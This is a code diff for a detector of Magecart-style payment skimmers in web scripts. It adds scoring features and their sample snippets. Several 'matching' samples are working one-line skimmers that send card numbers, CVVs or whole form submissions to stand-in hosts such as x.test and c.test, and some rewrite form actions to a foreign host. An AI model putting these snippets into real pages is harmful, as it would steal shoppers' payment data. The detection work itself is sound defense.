@@ -2,18 +2,23 @@ import type { AnyNode } from 'acorn';
 import type { Facts } from '../facts/facts.ts';
 import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-words.ts';
 import { anyField, taint } from '../flow/taint.ts';
-import { elementFinders } from '../tree/paths.ts';
+import { elementFinders, isElement } from '../tree/paths.ts';
 import type { Feature, Finder } from './feature.ts';
 import {
   allOf,
   anyOf,
+  calls,
   flow,
+  forgetsTo,
   paths,
+  properties,
   sends,
   sendsAndForgets,
-  sendsElsewhere,
+  sendsTo,
   text,
+  unmasked,
 } from './finders.ts';
+import { imitatesService } from './services.ts';
 
 const checkoutWords = [
   'checkout',
@@ -64,23 +69,6 @@ const cardNumberPatterns = [
   '3[47][0-9]{13}',
 ];
 
-const imitated: readonly { readonly name: string; readonly real: readonly string[] }[] = [
-  { name: 'google-analytics', real: ['google-analytics.com'] },
-  { name: 'googletagmanager', real: ['googletagmanager.com'] },
-  { name: 'googleadservices', real: ['googleadservices.com'] },
-  { name: 'doubleclick', real: ['doubleclick.net'] },
-  { name: 'hotjar', real: ['hotjar.com', 'hotjar.io'] },
-];
-
-/** Hosts that carry the name of a service which is somewhere else. */
-function imitatesService(address: string): boolean {
-  const host = /^(?:https?:|wss?:)?\/\/([\w.-]+)/i.exec(address)?.[1]?.toLowerCase() ?? '';
-  return imitated.some(
-    ({ name, real }) =>
-      host.includes(name) && !real.some((it) => host === it || host.endsWith(`.${it}`)),
-  );
-}
-
 /** Elements that are looked for by a name of payment. */
 const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
   [...elementFinders].flatMap((name) =>
@@ -89,6 +77,26 @@ const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
       return call?.type === 'CallExpression' && isPaymentName(values.text(call.arguments[0]) ?? '');
     }),
   );
+
+/** Forms of the page, not those that the script makes, get an address on another host. */
+const formTargets: Finder = ({ reading: { tree, values } }) => {
+  const found: number[] = [];
+  for (const [number, node] of tree.nodes.entries()) {
+    if (node.type !== 'AssignmentExpression' || node.left.type !== 'MemberExpression') continue;
+    const isForm =
+      values.property(node.left) === 'action' && isElement(values.path(node.left.object));
+    if (isForm && foreignAddress.test(values.text(node.right) ?? '')) found.push(number);
+  }
+  return found;
+};
+const foreignAddress = /^(?:https?:)?\/\/[\w-]+(?:\.[\w-]+)+/i;
+
+/** Listeners for forms that are sent. */
+const submitListeners: Finder = anyOf(
+  text(({ text: it }) => it === 'submit' || it === 'onsubmit'),
+  properties('onsubmit'),
+  calls('$.submit', 'jQuery.submit', '<node>.submit'),
+);
 
 const listedReaders = ['querySelector', 'querySelectorAll', 'getElementById', 'getElementsByName'];
 const listedSenders = ['sendBeacon', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Image', 'src'];
@@ -106,11 +114,23 @@ export const magecartFeatures: readonly Feature[] = [
   {
     id: 'card-data-sent',
     what: 'Card data goes to the network',
-    points: 65,
+    points: 40,
     find: sends(taint.cardName, anyField),
     samples: {
       matching: [`fetch('/pay', { body: document.querySelector('[name=cardnumber]').value });`],
       other: [`fetch('/pay', { body: document.querySelector('[name=quantity]').value });`],
+    },
+  },
+  {
+    id: 'card-data-sent-elsewhere',
+    what: 'Card data goes to another host, or to one that is not known',
+    points: 25,
+    find: sendsTo(['unknown', 'foreign'], taint.cardName, anyField),
+    samples: {
+      matching: [
+        `fetch('//c.test/pay', { body: document.querySelector('#cvv').value }).then(done);`,
+      ],
+      other: [`fetch('/pay', { body: document.querySelector('#cvv').value }).then(done);`],
     },
   },
   {
@@ -122,9 +142,11 @@ export const magecartFeatures: readonly Feature[] = [
       matching: [
         `navigator.sendBeacon('https://c.test/', document.getElementById('cvv').value);`,
         `fetch('https://c.test/', { mode: 'no-cors', body: document.getElementById('cvv').value });`,
+        `document.addEventListener('input', (e) => { if (/card|cvv/.test(e.target.name)) new Image().src = '//c.test/' + e.target.value; });`,
       ],
       other: [
         `fetch('/token', { body: document.getElementById('cvv').value }).then((r) => r.json()).then(pay);`,
+        `document.addEventListener('input', (e) => { if (/card|cvv/.test(e.target.name)) return; new Image().src = '//c.test/' + e.target.value; });`,
       ],
     },
   },
@@ -142,7 +164,7 @@ export const magecartFeatures: readonly Feature[] = [
     id: 'all-fields-sent-unanswered',
     what: 'Sends all fields of the page or a form, and nobody waits for an answer',
     points: 40,
-    find: sendsAndForgets(taint.allFields),
+    find: sendsAndForgets(taint.allFields, taint.field),
     samples: {
       matching: [
         `const d = {}; document.querySelectorAll('input,select').forEach((i) => { d[i.name] = i.value; }); navigator.sendBeacon('//c.test', JSON.stringify(d));`,
@@ -154,23 +176,86 @@ export const magecartFeatures: readonly Feature[] = [
   },
   {
     id: 'all-fields-sent-elsewhere',
-    what: 'Sends all fields of the page or a form to another host without waiting for an answer',
+    what: 'Sends all fields to another host without waiting for an answer, and leaves none out',
     points: 65,
-    find: sendsElsewhere(taint.allFields),
+    find: unmasked('any', forgetsTo(['foreign'], taint.allFields, taint.field)),
     samples: {
       matching: [
         `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
+        `document.addEventListener('change', ({ target: { value } }) => { new Image().src = 'https://x.test/' + value; });`,
+        `var u = ['https:', '', 'x.test', id].join('/'); document.onsubmit = (e) => { fetch(u, { body: new FormData(e.target) }); };`,
       ],
       other: [
         `f.onsubmit = function () { navigator.sendBeacon('/own', new FormData(document.forms[0])); };`,
+        `document.addEventListener('change', ({ target: t }) => { if (t.type !== 'password') new Image().src = 'https://x.test/' + t.value; });`,
       ],
+    },
+  },
+  {
+    id: 'all-fields-sent-somewhere',
+    what: 'Sends all fields to a host that is not known without waiting for an answer',
+    points: 25,
+    find: unmasked('any', forgetsTo(['unknown'], taint.allFields, taint.field)),
+    samples: {
+      matching: [`document.onchange = (e) => navigator.sendBeacon(u, e.target.value);`],
+      other: [`document.onchange = (e) => navigator.sendBeacon('/own', e.target.value);`],
+    },
+  },
+  {
+    id: 'submission-copied',
+    what: 'Sends all fields to another host while the form goes its own way',
+    points: 92,
+    find: unmasked('any', (facts) =>
+      facts.methods.has('preventDefault') || facts.properties.has('preventDefault')
+        ? []
+        : allOf(sendsTo(['foreign'], taint.allFields, taint.field), submitListeners)(facts),
+    ),
+    samples: {
+      matching: [
+        `document.addEventListener('submit', (e) => { fetch('https://x.test', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
+      ],
+      other: [
+        `document.addEventListener('submit', (e) => { e.preventDefault(); fetch('https://x.test', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
+        `document.addEventListener('submit', (e) => { fetch('/own', { body: new FormData(e.target) }).then((r) => r.text()).then(log); });`,
+      ],
+    },
+  },
+  {
+    id: 'form-target-changed',
+    what: 'Lets forms of the page go to another host',
+    points: 60,
+    find: formTargets,
+    samples: {
+      matching: [`document.querySelector('form').action = 'https://x.test/p';`],
+      other: [
+        `document.querySelector('form').action = '/p';`,
+        `var f = document.createElement('form'); f.action = 'https://x.test/p';`,
+      ],
+    },
+  },
+  {
+    id: 'payment-target-changed',
+    what: 'Lets forms with card fields go to another host',
+    points: 45,
+    find: allOf(
+      formTargets,
+      anyOf(
+        paymentSelectors,
+        text(({ text: it }) => it.length < 100 && /card|cvv|cvc|payment|checkout/i.test(it)),
+      ),
+    ),
+    samples: {
+      matching: [
+        `document.querySelectorAll('form').forEach((f) => { if (f.querySelector('[name=cvv]')) f.action = '//x.test/p'; });`,
+      ],
+      other: [`document.querySelector('form.search').action = 'https://x.test/p';`],
     },
   },
   {
     id: 'payment-form-copied',
     what: 'Picks the payment form of a page and sends fields without waiting for an answer',
     points: 30,
-    find: allOf(sendsAndForgets(taint.allFields), paymentSelectors),
+    find: allOf(sendsAndForgets(taint.allFields, taint.field), paymentSelectors),
     samples: {
       matching: [
         `$('#co-payment-form').on('submit', function () { $('<img>').attr('src', '//x.test/?' + $(this).serialize()); });`,
